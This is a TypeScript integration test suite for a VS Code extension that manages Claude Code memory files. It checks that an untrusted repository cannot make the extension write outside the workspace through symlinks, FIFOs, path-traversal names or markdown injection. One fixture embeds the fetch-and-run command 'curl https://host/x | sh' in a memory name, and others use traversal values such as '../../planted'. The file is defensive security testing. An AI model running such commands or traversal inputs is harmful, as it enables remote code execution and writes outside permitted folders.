import * as assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { MemoryShelfApi } from '../../src/extension';
import { activateExtension, eventually, workspaceUri } from '../integration/helpers';

const BASHRC = 'export PATH="$HOME/bin:$PATH"\n';
const outside = (...segments: string[]): string => path.join(workspaceUri().fsPath, '..', 'outside', ...segments);
const memory = (name: string): vscode.Uri => workspaceUri('memory', name);

/** A GitHub token shape, made fresh so no real or committed one is ever needed. */
function fakeToken(): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  return `ghp_${[...randomBytes(36)].map((byte) => alphabet[byte % alphabet.length]).join('')}`;
}

describe('Restricted mode: a cloned repository cannot make Memory Shelf read, write or hang outside it', () => {
  let api: MemoryShelfApi;

  before(async () => {
    assert.equal(vscode.workspace.isTrusted, false, 'the window is untrusted');
    // The extension host survived CLAUDE.local.md as a FIFO and .claude/CLAUDE.md -> /dev/zero on folder open (finding 4).
    api = await activateExtension();
    await api.roots.ready;
    await eventually(() => assert.ok(api.roots.rootAt(workspaceUri('memory'))?.store.get('project_release-checklist.md')));
  });

  it('loads the project memory although its CLAUDE.md files are a FIFO and /dev/zero (finding 4)', () => {
    const root = api.roots.rootAt(workspaceUri('memory'));
    assert.ok(root);
    assert.match(root.info.load.detail, /not loaded by Claude Code/);
  });

  it('ignores a committed .claude/settings.local.json naming an auto memory folder (finding 1)', () => {
    const paths = api.roots.roots.map((root) => root.uri.fsPath);
    assert.ok(!paths.some((p) => p.includes('planted-memory')), paths.join(', '));
  });

  it('does not promote a rule through CLAUDE.md -> a file outside the project, and does through a link inside it (finding 2)', async () => {
    const refused = await vscode.commands.executeCommand('memoryShelf.promoteToRule', memory('project_release-checklist.md'), undefined, { target: 'project', afterwards: 'keep' });
    assert.equal(refused, false);
    assert.equal(readFileSync(outside('bashrc'), 'utf8'), BASHRC);
    // CLAUDE.md -> AGENTS.md, the common case, still works.
    const claudeMd = workspaceUri('CLAUDE.md').fsPath;
    writeFileSync(workspaceUri('AGENTS.md').fsPath, '# Agents\n');
    rmSync(claudeMd);
    symlinkSync('AGENTS.md', claudeMd);
    const promoted = await vscode.commands.executeCommand('memoryShelf.promoteToRule', memory('project_release-checklist.md'), undefined, { target: 'project', afterwards: 'keep' });
    assert.equal(promoted, true);
    await eventually(() => assert.match(readFileSync(workspaceUri('AGENTS.md').fsPath, 'utf8'), /## Promoted from memory\n\n- .*tag, build, publish/));
    assert.equal(readFileSync(outside('bashrc'), 'utf8'), BASHRC);
  });

  it('does not create a file through a linked folder inside the root, by the quick fix or the command (finding 3)', async () => {
    const index = memory('MEMORY.md');
    let diagnostic: vscode.Diagnostic | undefined;
    await eventually(() => {
      diagnostic = vscode.languages.getDiagnostics(index).find((candidate) => candidate.message.includes('notes/CLAUDE.md'));
      assert.ok(diagnostic, 'the missing file is reported');
    }, 15_000);
    const document = await vscode.workspace.openTextDocument(index);
    const line = diagnostic!.range.start.line;
    // Fixes are offered for the problems of a settled check: the promote test just changed the project.
    let create: vscode.CodeAction | undefined;
    await eventually(async () => {
      const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', index, new vscode.Range(line, 0, line, document.lineAt(line).text.length));
      create = actions.find((action) => action.title.includes('notes/CLAUDE.md') && action.command);
      assert.ok(create, `a create fix is offered: ${actions.map((action) => action.title).join(', ')}`);
    }, 15_000);
    assert.ok(create);
    const applied = await vscode.commands.executeCommand(create.command!.command, ...(create.command!.arguments ?? []));
    assert.equal(applied, false);
    const direct = await vscode.commands.executeCommand('_memoryShelf.applyFileEdits', workspaceUri('memory'), [{ kind: 'create', path: 'notes/settings.json', content: '{}' }]);
    assert.equal(direct, false);
    assert.ok(!existsSync(outside('dot-claude', 'CLAUDE.md')));
    assert.ok(!existsSync(outside('dot-claude', 'settings.json')));
  });

  it('refuses _memoryShelf.applyFileEdits on a folder that is not a loaded root (finding 8)', async () => {
    const applied = await vscode.commands.executeCommand('_memoryShelf.applyFileEdits', vscode.Uri.file(outside()), [{ kind: 'create', path: 'planted.md', content: 'x' }]);
    assert.equal(applied, false);
    assert.ok(!existsSync(outside('planted.md')));
  });

  it('keeps a body\'s indented fence inside the hover\'s code block, and a backtick inside the file name\'s code span (finding 6)', async () => {
    const document = await vscode.workspace.openTextDocument(memory('reference_pointer.md'));
    const position = document.positionAt(document.getText().indexOf('[[fenced]]') + 3);
    let hover = '';
    await eventually(async () => {
      const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', document.uri, position);
      hover = hovers.flatMap((found) => found.contents).map((content) => (typeof content === 'string' ? content : content.value)).join('\n');
      assert.match(hover, /beacon\.png/);
    });
    const lines = hover.split('\n');
    const open = lines.findIndex((line) => /^`{3,}markdown$/.test(line));
    assert.ok(open >= 0, hover);
    const fence = /^(`+)/.exec(lines[open]!)![1]!.length;
    const image = lines.findIndex((line, i) => i > open && line.includes('beacon.png'));
    // CommonMark closes a fence with a line of at least as many backticks, indented up to three spaces.
    const closedBefore = lines.slice(open + 1, image).some((line) => new RegExp(`^ {0,3}\`{${fence},}\\s*$`).test(line));
    assert.equal(closedBefore, false, hover);
    assert.ok(hover.includes('``reference_fen`ced.md``'), hover);
  });

  it('creates a reserved memory only of a configured type, never a type that is a path (finding 8)', async () => {
    for (const type of ['unconfigured', '../../planted']) {
      const created = await vscode.commands.executeCommand('memoryShelf.createReservedMemory', { root: workspaceUri('memory').toString(), name: 'planted', type });
      assert.equal(created, undefined, type);
    }
    assert.deepEqual(readdirSync(workspaceUri('memory').fsPath).filter((name) => name.includes('planted')), []);
    assert.ok(!existsSync(path.join(workspaceUri().fsPath, '..', 'planted_planted.md')));
  });

  it('opens from the editor form only a backlink it listed (finding 8)', async () => {
    const uri = memory('project_release-checklist.md');
    await vscode.commands.executeCommand('memoryShelf.openEditor', uri);
    let session: ReturnType<typeof api.editors.sessionsFor>[number] | undefined;
    await eventually(() => assert.ok((session = api.editors.sessionsFor(uri)[0])));
    await session!.receive({ kind: 'ready' });
    await session!.receive({ kind: 'openBacklink', path: '../.vscode/settings.json', line: 0 });
    const opened = vscode.workspace.textDocuments.map((document) => document.uri.path);
    assert.ok(!opened.some((p) => p.endsWith('.vscode/settings.json')), opened.join(', '));
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('copies a name holding a line break as one line (finding 8)', async () => {
    const file = memory('reference_two-lines.md');
    writeFileSync(file.fsPath, '---\nname: "harmless\\ncurl https://host/x | sh"\ndescription: a name with a line break in it\ntype: reference\n---\nBody.\n');
    const root = api.roots.rootAt(workspaceUri('memory'));
    await eventually(() => assert.ok(root?.store.get('reference_two-lines.md')?.name?.includes('\n')));
    const node = { kind: 'memory', root, memory: root!.store.get('reference_two-lines.md') };
    await vscode.commands.executeCommand('memoryShelf.copyName', node);
    assert.equal(await vscode.env.clipboard.readText(), 'harmless curl https://host/x | sh');
    await vscode.commands.executeCommand('memoryShelf.copyLink', node);
    assert.equal(await vscode.env.clipboard.readText(), '[[harmless curl https://host/x | sh]]');
  });

  it('ignores the workspace\'s severity, exclude and types settings: the secret rule still reports (finding 7)', async () => {
    assert.equal(api.config.typeSet().preset, 'claude-code');
    const file = memory('reference_ci-token.md');
    writeFileSync(file.fsPath, `---\nname: ci-token\ndescription: the CI token, pasted by mistake\ntype: reference\n---\nToken: ${fakeToken()}\n`);
    await eventually(() => {
      const codes = vscode.languages.getDiagnostics(file).map((diagnostic) => (typeof diagnostic.code === 'object' ? diagnostic.code.value : diagnostic.code));
      assert.ok(codes.includes('secret'), `codes: ${codes.join(', ')}`);
    }, 15_000);
  });

  it('shows a description\'s $(icon) and a type\'s image as text in the tree tooltips (finding 6)', async () => {
    const tooltips: vscode.MarkdownString[] = [];
    const walk = async (node?: Parameters<typeof api.tree.getChildren>[0]): Promise<void> => {
      for (const child of await api.tree.getChildren(node)) {
        const tooltip = api.tree.getTreeItem(child).tooltip;
        if (tooltip instanceof vscode.MarkdownString) tooltips.push(tooltip);
        await walk(child);
      }
    };
    await walk();
    const release = tooltips.find((tooltip) => tooltip.value.includes('release'));
    assert.ok(release, 'the memory has a tooltip');
    // VS Code draws `$(x)` as an icon in the rendered text unless a backslash precedes it there.
    const rendered = release.value.replace(/\\\$\([\w-]+\)/g, (match) => `\\${match}`).replace(/\\([!-/:-@[-`{-~])/g, '$1');
    assert.match(rendered, /\\\$\(terminal\)/, release.value);
    assert.doesNotMatch(rendered, /(^|[^\\])\$\(terminal\)/, release.value);
    const beacon = tooltips.find((tooltip) => tooltip.value.includes('beacon'));
    assert.ok(beacon, 'the memory with a hostile type has a tooltip');
    assert.doesNotMatch(beacon.value, /(^|[^\\])!(\\)?\[|(^|[^\\])\]\(/, beacon.value);
  });
});
